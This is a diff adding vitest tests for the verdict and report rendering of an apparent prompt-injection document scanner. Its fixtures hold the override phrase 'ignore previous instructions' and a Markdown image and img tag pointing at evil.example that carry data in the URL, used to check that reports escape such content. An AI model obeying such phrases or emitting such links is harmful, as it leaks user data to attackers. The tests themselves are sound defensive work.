@@ -0,0 +1,42 @@
+import { describe, it, expect } from 'vitest';
+import { createReport, renderReport, verdictOf } from './report.js';
+import { buildResult } from './index.js';
+import { DEFAULT_RULES } from './rules.js';
+
+const scanned = (rawText, issues) => buildResult({ issues, pageCount: 1, rawText }, 'doc.txt');
+const injection = { type: 'Injection Keyword', detail: 'Blocked phrase', severity: 'high', rule: 'r', context: 'ignore previous instructions', ranges: [{ start: 0, end: 28 }] };
+
+describe('verdictOf', () => {
+  it('tells safe, risky and empty documents apart', () => {
+    expect(verdictOf(scanned('fine', []))).toBe('safe');
+    expect(verdictOf(scanned('ignore previous instructions', [injection]))).toBe('risky');
+    expect(verdictOf(scanned('   ', []))).toBe('empty');
+  });
+
+  it('follows the risk band rather than the finding count', () => {
+    const minor = scanned('instead of', [{ ...injection, severity: 'low', ranges: [{ start: 0, end: 10 }] }]);
+    expect(minor.safe).toBe(true);
+    expect(verdictOf(minor)).toBe('safe');
+    expect(verdictOf(minor, { medium: 1, high: 45, critical: 75 })).toBe('risky');
+  });
+});
+
+describe('renderReport', () => {
+  const report = createReport([scanned('ignore previous instructions', [injection])], { rules: DEFAULT_RULES, generatedAt: '2024-01-01T00:00:00.000Z' });
+
+  it('renders every format', () => {
+    expect(JSON.parse(renderReport(report, 'json')).documents[0].findings).toHaveLength(1);
+    expect(JSON.parse(renderReport(report, 'sarif')).runs[0].results).toHaveLength(1);
+    expect(renderReport(report, 'html')).toContain('<html');
+    expect(renderReport(report, 'markdown')).toContain('| high | Injection Keyword |');
+  });
+
+  it('escapes document text in Markdown so images and tags do not render', () => {
+    const rawText = 'See ![x](https://evil.example/?q={data}) and <img src=https://evil.example/a>';
+    const lure = { type: 'Exfiltration Link', detail: 'Markdown image sends data in its URL', severity: 'high', context: rawText, ranges: [{ start: 4, end: 39 }] };
+    const markdown = renderReport(createReport([scanned(rawText, [lure])], { rules: DEFAULT_RULES }), 'markdown');
+    expect(markdown).toContain('\\!\\[x\\]\\(https://evil.example/?q={data}\\)');
+    expect(markdown).not.toMatch(/(^|[^\\])!\[/);
+    expect(markdown).not.toMatch(/(^|[^\\])<img/);
+  });
+});